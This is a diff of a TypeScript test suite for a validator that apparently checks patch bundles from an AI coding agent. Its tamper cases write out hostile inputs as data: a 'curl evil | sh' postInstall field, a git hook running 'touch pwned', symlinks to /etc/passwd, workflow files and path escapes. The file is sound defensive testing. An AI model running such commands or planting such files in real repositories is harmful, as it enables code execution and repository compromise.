@@ -69,7 +69,7 @@ test('three real candidates: the failing one and the large one lose, the small v
   expect(show(s.winner!.tree!, 'src/add.js')).toContain('return a + b;');
   expect(s.winner!.size).toEqual({ files: 1, lines: 2 });
   const lines = Object.fromEntries(s.lines.map((l) => [l.candidate, l.text]));
-  expect(lines['3']).toMatch(/candidate `3` \(scripted, temperature 0\.6\): verified, 1 file \+1\/-1, .* — \*\*published\*\*/);
+  expect(lines['3']).toMatch(/candidate `3` \(`scripted`, temperature 0\.6\): verified, 1 file \+1\/-1, .* — \*\*published\*\*/);
   expect(lines['2']).toMatch(/verified, 1 file \+26\/-1.* — lost: larger change \(27 vs 2 changed lines\)/);
   expect(lines['1']).toMatch(/not verified \(tests-still-failing\), no change.* — lost: not verified/);
   const md = renderCandidates(s);
@@ -140,30 +140,31 @@ interface Tamper {
 }
 
 const tampered: Tamper[] = [
-  { name: 'a workflow file (protected path)', tamper: (d) => replacePatch(d, NEW_FILE('.github/workflows/evil.yml', 'on: push')), reason: /protected path ".github\/workflows\/evil.yml" \(.github\/workflows\/\*\*\)/ },
-  { name: 'a workflow file in other case', tamper: (d) => replacePatch(d, NEW_FILE('.GitHub/Workflows/evil.yml', 'on: push')), reason: /protected path ".GitHub\/Workflows\/evil.yml"/ },
-  { name: 'a path the policy forbids', tamper: (d) => replacePatch(d, NEW_FILE('secrets/keys.txt')), reason: /protected path "secrets\/keys.txt" \(secrets\/\*\*\)/, expect: { protectedPaths: ['secrets/**'] } },
-  { name: 'a path outside the allow-list', tamper: (d) => replacePatch(d, NEW_FILE('docs/x.md')), reason: /protected path "docs\/x.md" \(!src\/\*\*\)/, expect: { protectedPaths: ['!src/**'] } },
+  { name: 'a workflow file (protected path)', tamper: (d) => replacePatch(d, NEW_FILE('.github/workflows/evil.yml', 'on: push')), reason: /protected path `.github\/workflows\/evil.yml` \(`.github\/workflows\/\*\*`\)/ },
+  { name: 'a workflow file in other case', tamper: (d) => replacePatch(d, NEW_FILE('.GitHub/Workflows/evil.yml', 'on: push')), reason: /protected path `.GitHub\/Workflows\/evil.yml`/ },
+  { name: 'a path with markdown, HTML and a mention', tamper: (d) => replacePatch(d, NEW_FILE('.github/workflows/@octo-org/team <b>x</b> a`b.yml')), reason: /^it touches the protected path `\.github\/workflows\/@octo-org\/team <b>x<\/b> a b\.yml` \(`\.github\/workflows\/\*\*`\)$/ },
+  { name: 'a path the policy forbids', tamper: (d) => replacePatch(d, NEW_FILE('secrets/keys.txt')), reason: /protected path `secrets\/keys.txt` \(`secrets\/\*\*`\)/, expect: { protectedPaths: ['secrets/**'] } },
+  { name: 'a path outside the allow-list', tamper: (d) => replacePatch(d, NEW_FILE('docs/x.md')), reason: /protected path `docs\/x.md` \(`!src\/\*\*`\)/, expect: { protectedPaths: ['!src/**'] } },
   { name: 'a path escape (..)', tamper: (d) => replacePatch(d, NEW_FILE('../escape.txt')), reason: /it names a path that escapes the repository/ },
   { name: 'a path escape inside a directory', tamper: (d) => replacePatch(d, NEW_FILE('src/../../escape.txt')), reason: /it names a path that escapes the repository/ },
-  { name: 'git internals', tamper: (d) => replacePatch(d, NEW_FILE('.git/hooks/pre-commit', 'touch pwned')), reason: /it touches git internals: ".git\/hooks\/pre-commit"/ },
-  { name: 'a symlink pointing out of the repository', tamper: (d) => replacePatch(d, NEW_FILE('link', '/etc/passwd', '120000')), reason: /makes link a symbolic link \(to "\/etc\/passwd", outside the repository\)/ },
-  { name: 'a relative symlink climbing out', tamper: (d) => replacePatch(d, NEW_FILE('src/link', '../../outside', '120000')), reason: /symbolic link \(to "..\/..\/outside", outside the repository\)/ },
-  { name: 'a symlink inside the repository (all new symlinks are refused)', tamper: (d) => replacePatch(d, NEW_FILE('src/alias.js', 'add.js', '120000')), reason: /symbolic link \(to "add.js", inside the repository\)/ },
+  { name: 'git internals', tamper: (d) => replacePatch(d, NEW_FILE('.git/hooks/pre-commit', 'touch pwned')), reason: /it touches git internals: `.git\/hooks\/pre-commit`/ },
+  { name: 'a symlink pointing out of the repository', tamper: (d) => replacePatch(d, NEW_FILE('link', '/etc/passwd', '120000')), reason: /makes `link` a symbolic link \(to `\/etc\/passwd`, outside the repository\)/ },
+  { name: 'a relative symlink climbing out', tamper: (d) => replacePatch(d, NEW_FILE('src/link', '../../outside', '120000')), reason: /symbolic link \(to `..\/..\/outside`, outside the repository\)/ },
+  { name: 'a symlink inside the repository (all new symlinks are refused)', tamper: (d) => replacePatch(d, NEW_FILE('src/alias.js', 'add.js', '120000')), reason: /symbolic link \(to `add.js`, inside the repository\)/ },
   {
     name: 'a submodule (gitlink)',
     tamper: (d) => replacePatch(d, `diff --git a/vendor/lib b/vendor/lib\nnew file mode 160000\nindex 0000000..${'a'.repeat(40)}\n--- /dev/null\n+++ b/vendor/lib\n@@ -0,0 +1 @@\n+Subproject commit ${'a'.repeat(40)}\n`),
-    reason: /it changes a submodule \(vendor\/lib\)/,
+    reason: /it changes a submodule \(`vendor\/lib`\)/,
   },
-  { name: 'a .gitmodules file', tamper: (d) => replacePatch(d, NEW_FILE('.gitmodules', '[submodule "x"]')), reason: /submodule \(.gitmodules\)/ },
+  { name: 'a .gitmodules file', tamper: (d) => replacePatch(d, NEW_FILE('.gitmodules', '[submodule "x"]')), reason: /submodule \(`.gitmodules`\)/ },
   { name: 'a wrong base sha', tamper: (d) => editManifest(d, (m) => (m.baseSha = 'b'.repeat(40))), reason: /its base bbbbbbbbbbbb is not the commit this job checked out/ },
-  { name: 'another task', tamper: (d) => editManifest(d, (m) => (m.task.key = 'issue-8')), reason: /it is for task "issue-8", not "issue-7"/ },
+  { name: 'another task', tamper: (d) => editManifest(d, (m) => (m.task.key = 'issue-8')), reason: /it is for task `issue-8`, not `issue-7`/ },
   { name: 'an oversize patch', tamper: (d) => replacePatch(d, Buffer.alloc(DEFAULT_LIMITS.patchBytes + 1, 0x61)), reason: /the patch is 8388609 bytes, over the limit of 8388608 bytes/ },
   { name: 'an oversize manifest', tamper: (d) => writeFileSync(path.join(d, MANIFEST_FILE), ' '.repeat(2048)), reason: /the manifest is 2048 bytes, over the limit of 1024 bytes/, expect: { limits: { ...DEFAULT_LIMITS, manifestBytes: 1024 } } },
   { name: 'malformed JSON', tamper: (d) => writeFileSync(path.join(d, MANIFEST_FILE), readFileSync(path.join(d, MANIFEST_FILE), 'utf8').slice(0, 500)), reason: /manifest.json is not valid JSON/ },
   { name: 'not a bundle at all', tamper: (d) => writeFileSync(path.join(d, MANIFEST_FILE), '{"hello": "world"}'), reason: /not an agent-fix bundle/ },
-  { name: 'a newer bundle version', tamper: (d) => editManifest(d, (m) => (m.version = 2)), reason: /bundle version 2 is not supported: this agent-fix reads version 1/ },
-  { name: 'a schema-invalid manifest', tamper: (d) => editManifest(d, (m) => (m.evidence.final.counts.failed = 'many')), reason: /does not match the bundle schema: evidence\.final\.counts\.failed: / },
+  { name: 'a newer bundle version', tamper: (d) => editManifest(d, (m) => (m.version = 2)), reason: /bundle version `2` is not supported: this agent-fix reads version 1/ },
+  { name: 'a schema-invalid manifest', tamper: (d) => editManifest(d, (m) => (m.evidence.final.counts.failed = 'many')), reason: /does not match the bundle schema: `evidence\.final\.counts\.failed: / },
   { name: 'an unknown manifest field', tamper: (d) => editManifest(d, (m) => (m.postInstall = 'curl evil | sh')), reason: /does not match the bundle schema: .*postInstall/ },
   { name: 'a patch that does not apply', tamper: (d) => replacePatch(d, 'diff --git a/src/add.js b/src/add.js\n--- a/src/add.js\n+++ b/src/add.js\n@@ -1,3 +1,3 @@\n export function add(a, b) {\n-  return a / b;\n+  return a + b;\n }\n'), reason: /does not apply cleanly to [0-9a-f]{12}: .*patch does not apply/ },
   { name: 'a swapped patch file (sha256 differs)', tamper: (d) => writeFileSync(path.join(d, PATCH_FILE), NEW_FILE('other.txt')), reason: /change.patch is not the patch the manifest names/ },
@@ -172,7 +173,7 @@ const tampered: Tamper[] = [
   { name: 'too many changed lines', tamper: () => undefined, reason: /it changes 2 lines, more than max-changed-lines \(1\)/, expect: { maxChangedLines: 1 } },
   { name: 'too many changed files', tamper: (d) => replacePatch(d, NEW_FILE('a.txt') + NEW_FILE('b.txt')), reason: /it changes 2 files, more than max-changed-files \(1\)/, expect: { maxChangedFiles: 1 } },
   { name: 'a weakened test (test-integrity guard)', tamper: (d) => replacePatch(d, NEW_FILE('test/add.test.js', "test.skip('add adds', () => {})")), reason: /the test-integrity guard refuses it: \[skip\]/ },
-  { name: 'an extra file in the bundle', tamper: (d) => writeFileSync(path.join(d, 'postinstall.sh'), 'touch pwned'), reason: /unexpected file\(s\) in the bundle: postinstall.sh/ },
+  { name: 'an extra file in the bundle', tamper: (d) => writeFileSync(path.join(d, 'postinstall.sh'), 'touch pwned'), reason: /unexpected file\(s\) in the bundle: `postinstall.sh`/ },
   { name: 'a manifest that is a symlink', tamper: (d) => { rmSync(path.join(d, MANIFEST_FILE)); symlinkSync('/etc/hostname', path.join(d, MANIFEST_FILE)); }, reason: /manifest.json is a symbolic link; not followed/ },
   { name: 'a missing patch', tamper: (d) => rmSync(path.join(d, PATCH_FILE)), reason: /change.patch is missing/ },
 ];
